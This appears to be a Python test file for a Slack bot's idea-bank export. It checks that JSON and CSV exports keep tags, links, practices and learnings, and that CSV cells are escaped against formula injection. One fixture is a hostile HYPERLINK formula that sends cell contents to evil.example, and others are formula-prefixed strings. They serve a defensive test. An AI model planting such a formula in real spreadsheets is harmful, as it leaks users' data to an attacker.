"""`export ideas` carries the knowledge bank: kinds (practices too), tags, links, a practice's fields,
the challenge an idea answers, the day an experiment's learning is due, supports, and the learning
itself, in CSV and JSON alike; what members typed never runs as a formula in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

from sqlalchemy import delete

from app import main
from bot.core.db import Database
from bot.core.workspace_settings import ensure_workspace
from bot.ideas import export, pitches
from bot.ideas.data import IdeaData, LinkData
from bot.ideas.pitches import PitchDraft
from models import Idea, IdeaTag, Learning, Support
from tests.support import slack_payloads as p

HOSTILE_LABEL = '=HYPERLINK("https://evil.example/?q="&A1, "Klikkaa")'
FINNISH_LABEL = "Työpaja, osa 1\nÄänekosken kirjasto"


def pitch(db: Database, title: str, **fields) -> IdeaData:
    with db.session() as session:
        ensure_workspace(session, p.TEAM_ID)
        return pitches.create_pitch(
            session,
            team_id=p.TEAM_ID,
            author_id=p.USER_ID,
            draft=PitchDraft(title=title, **fields),
            origin_channel_id="C1",
        )


def a_bank_with_hostile_words(db: Database) -> dict[str, IdeaData]:
    challenge = pitch(db, "Miten tavoitamme nuoret?", kind="challenge", tags=("nuoret",))
    practice = pitch(
        db,
        "=1+1 Nuorten iltapäivä",
        kind="practice",
        description="Kokoonnumme, juttelemme",
        used_where="+Jyväskylän kirjastot, Äänekoski",
        ask_whom="@Pirjo, nuorisotyö",
        tags=("nuoret", "kirjastot"),
        links=(
            LinkData(url="https://miro.com/app/board/iltapaiva", label=HOSTILE_LABEL),
            LinkData(url="https://docs.example/ohje", label=FINNISH_LABEL),
        ),
        challenge_id=challenge.id,
    )
    experiment = pitch(
        db,
        "Lautapelit lainaan",
        kind="experiment",
        believe="nuoret tulevat pelien takia",
        challenge_id=challenge.id,
        learning_due=date(2026, 12, 15),
    )
    with db.session() as session:
        # A tag row from before tags were normalised (or written by hand): still no formula.
        session.add(IdeaTag(idea_id=experiment.id, team_id=p.TEAM_ID, tag="=cmd", position=0))
        session.add(
            Learning(
                team_id=p.TEAM_ID,
                idea_id=experiment.id,
                author_id=p.USER_ID,
                text="-Pelit toimivat, mutta vain lauantaisin",
                worked="Lauantait, ystävät mukana",
                did_not="Arkiaamut\nei ketään",
                again="yes",
            )
        )
        for user_id in ("U0ANNA0001", "U0BO000001"):
            session.add(Support(team_id=p.TEAM_ID, idea_id=practice.id, user_id=user_id))
    return {"challenge": challenge, "practice": practice, "experiment": experiment}


def exported(db: Database, capsys, monkeypatch, tmp_path) -> tuple[dict, list[dict[str, str]]]:
    monkeypatch.setenv("DATABASE_URL", db.url)
    monkeypatch.chdir(tmp_path)
    capsys.readouterr()
    assert main(["export", "ideas", "--format", "json"]) == 0
    document = json.loads(capsys.readouterr().out)
    assert main(["export", "ideas", "--format", "csv"]) == 0
    return document, list(csv.DictReader(io.StringIO(capsys.readouterr().out)))


def test_the_json_export_carries_tags_links_a_practices_fields_the_challenge_supports_and_the_learning(
    db: Database, capsys, monkeypatch, tmp_path
) -> None:
    a_bank_with_hostile_words(db)
    document, _rows = exported(db, capsys, monkeypatch, tmp_path)

    challenge, practice, experiment = document["ideas"]
    assert [idea["kind"] for idea in document["ideas"]] == ["challenge", "practice", "experiment"]
    assert (
        challenge["tags"] == ["nuoret"] and challenge["challenge"] is None and challenge["learning"] is None
    )
    assert practice["title"] == "=1+1 Nuorten iltapäivä", "the JSON keeps every value as typed"
    assert practice["tags"] == ["nuoret", "kirjastot"]
    assert practice["links"] == [
        {"url": "https://miro.com/app/board/iltapaiva", "label": HOSTILE_LABEL},
        {"url": "https://docs.example/ohje", "label": FINNISH_LABEL},
    ]
    assert (practice["used_where"], practice["ask_whom"]) == (
        "+Jyväskylän kirjastot, Äänekoski",
        "@Pirjo, nuorisotyö",
    )
    assert (practice["challenge"], practice["supports"]) == (1, 2)
    assert (experiment["challenge"], experiment["learning_due"]) == (1, "2026-12-15")
    learning = experiment["learning"]
    assert (learning["text"], learning["worked"], learning["did_not"], learning["again"]) == (
        "-Pelit toimivat, mutta vain lauantaisin",
        "Lauantait, ystävät mukana",
        "Arkiaamut\nei ketään",
        "yes",
    )
    assert learning["shared_at"]


def test_the_csv_export_has_a_column_for_each_and_no_cell_runs_as_a_formula(
    db: Database, capsys, monkeypatch, tmp_path
) -> None:
    a_bank_with_hostile_words(db)
    document, rows = exported(db, capsys, monkeypatch, tmp_path)

    assert list(rows[0]) == list(export.CSV_COLUMNS)
    challenge, practice, experiment = rows
    assert practice["kind"] == "practice" and practice["tags"] == "nuoret; kirjastot"
    assert practice["title"] == "'=1+1 Nuorten iltapäivä"
    assert practice["used_where"] == "'+Jyväskylän kirjastot, Äänekoski"
    assert practice["ask_whom"] == "'@Pirjo, nuorisotyö"
    # The links are a JSON array in their cell: commas, new lines and a hostile label come back whole.
    assert json.loads(practice["links"]) == document["ideas"][1]["links"]
    assert (practice["challenge"], practice["supports"], practice["learning_due"]) == ("1", "2", "")
    assert experiment["tags"] == "'=cmd"
    assert (experiment["challenge"], experiment["learning_due"]) == ("1", "2026-12-15")
    assert experiment["learning"] == "'-Pelit toimivat, mutta vain lauantaisin"
    assert (experiment["learning_worked"], experiment["learning_did_not"], experiment["learning_again"]) == (
        "Lauantait, ystävät mukana",
        "Arkiaamut\nei ketään",
        "yes",
    )
    assert experiment["learning_shared_at"] == document["ideas"][2]["learning"]["shared_at"]
    assert (challenge["links"], challenge["learning"], challenge["challenge"]) == ("[]", "", "")
    for row in rows:
        for value in row.values():
            assert not value.startswith(export.FORMULA_STARTS), value


def test_an_answer_whose_challenge_is_gone_exports_with_no_challenge(db: Database) -> None:
    ideas = a_bank_with_hostile_words(db)
    with db.session() as session:
        session.execute(delete(Idea).where(Idea.id == ideas["challenge"].id))
    with db.read() as session:
        rows = export.ideas_for_export(session, p.TEAM_ID)
    assert [(row["number"], row["challenge"]) for row in rows] == [(2, None), (3, None)]
    assert next(csv.DictReader(io.StringIO(export.to_csv(rows))))["challenge"] == ""
